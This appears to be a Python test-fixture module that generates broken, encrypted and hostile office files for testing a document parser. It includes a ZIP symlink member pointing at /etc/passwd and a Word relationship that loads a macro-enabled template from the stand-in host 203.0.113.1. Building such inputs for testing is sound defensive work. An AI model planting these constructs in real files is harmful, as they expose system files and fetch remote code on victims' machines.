"""Files that are not what an office means to give: broken, locked, hostile, in another form."""

import zipfile
from collections.abc import Mapping
from io import BytesIO

import docx

MAIN = "word/document.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FONT = "/Font << /F 3 0 R >>"
PICTURE = "/XObject << /P 4 0 R >>"
LOCK = f"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"
LETTERS = "BT /F 12 Tf 50 700 Td (Zatraty mestnogo byudzheta na dve tysyachi dvadtsat pyatyi god) Tj ET"
SCAN = "595 0 0 842 0 0 cm /P Do"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" '
    'Target="http://203.0.113.1/template.dotm"/></Relationships>'
)


def print_of(drawing: str, pages: int = 1, lock: str = "") -> bytes:
    """Return a PDF of pages that all show one drawing."""
    kids = " ".join(f"{number} 0 R" for number in range(6, 6 + pages))
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << {FONT} {PICTURE} >> /Contents 5 0 R >>"
    picture = (
        "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"{picture} /Length 1 >>\nstream\n0\nendstream",
        f"<< /Length {len(drawing)} >>\nstream\n{drawing}\nendstream",
        *[page] * pages,
    ]
    body = "".join(f"{number} 0 obj\n{each}\nendobj\n" for number, each in enumerate(objects, start=1))
    trailer = f"trailer\n<< /Root 1 0 R /Size {len(objects) + 1} /ID [<41> <41>] {lock} >>\n%%EOF\n"
    return f"%PDF-1.4\n{body}{trailer}".encode()


def packed(members: Mapping[str, str | bytes]) -> bytes:
    """Return a ZIP archive."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def with_link() -> bytes:
    """Return a ZIP archive whose main part is a link to a file of the machine."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        member = zipfile.ZipInfo(MAIN)
        member.external_attr = 0o120777 << 16
        archive.writestr(member, "/etc/passwd")
    return stream.getvalue()


def word(text: str = "", **parts: str | bytes) -> bytes:
    """Return a Word file of paragraphs and, where lines have tabs, tables; `parts` are put in by path."""
    document = docx.Document()
    table = None
    for line in text.splitlines():
        cells = line.split("\t")
        if len(cells) == 1:
            document.add_paragraph(line)
            table = None
            continue
        if table is None or len(table.columns) != len(cells):
            table = document.add_table(rows=0, cols=len(cells))
        for cell, words in zip(table.add_row().cells, cells, strict=True):
            cell.text = words
    stream = BytesIO()
    document.save(stream)
    with zipfile.ZipFile(stream) as archive:
        own = {name: archive.read(name) for name in archive.namelist()}
    return packed(own | parts)
